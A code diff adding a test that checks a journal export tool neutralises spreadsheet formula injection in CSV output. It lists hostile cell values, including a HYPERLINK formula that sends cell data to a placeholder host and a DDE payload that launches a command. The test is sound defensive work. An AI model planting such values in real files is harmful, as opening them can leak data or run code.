@@ -65,6 +65,27 @@ def test_every_attempt_is_one_row_and_the_formats_agree(flaky, tmp_path):
     assert {d["device"]: d["busy_share"] for d in devices} == read_run(flaky)["summary"]["utilisation"]
 
 
+def test_words_a_spreadsheet_would_run_as_a_formula_are_inert_in_csv_and_as_written_elsewhere(flaky, tmp_path):
+    """An operator's reason (or a driver's error) is free text: `=HYPERLINK(...)` in a CSV cell runs when the
+    file is opened in a spreadsheet."""
+    hostile = ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "@SUM(1,2)",
+               "-2+3", "\t=1"]
+    j = Journal(tmp_path / "ops.db")
+    j.set("scenario", read_run(flaky)["scenario"])
+    for t, reason in enumerate(hostile + ["a plain reason", "1-2"]):
+        j.event(float(t), "operator.pause", detail={"who": "mallory", "ref": str(t), "reason": reason, "now": True})
+    j.close()
+    for fmt in ("csv", "jsonl"):
+        export(tmp_path / "ops.db", tmp_path / fmt, fmt, ["operator"])
+    with open(tmp_path / "csv" / "operator.csv", newline="") as f:
+        cells = [r["reason"] for r in csv.DictReader(f)]
+    assert cells == ["'" + h for h in hostile] + ["a plain reason", "1-2"]
+    lines = [json.loads(x)["reason"] for x in (tmp_path / "jsonl" / "operator.jsonl").read_text().splitlines()]
+    assert lines == hostile + ["a plain reason", "1-2"]
+    with open(tmp_path / "csv" / "operator.csv", newline="") as f:
+        assert [r["t_lab_s"] for r in csv.DictReader(f)][:2] == ["0.0", "1.0"]  # numbers as they are
+
+
 def test_provenance_names_the_scenario_hash_versions_and_operator_acts(flaky, tmp_path):
     export(flaky, tmp_path, "csv", ["operator"])
     record = json.loads((tmp_path / "provenance.json").read_text())
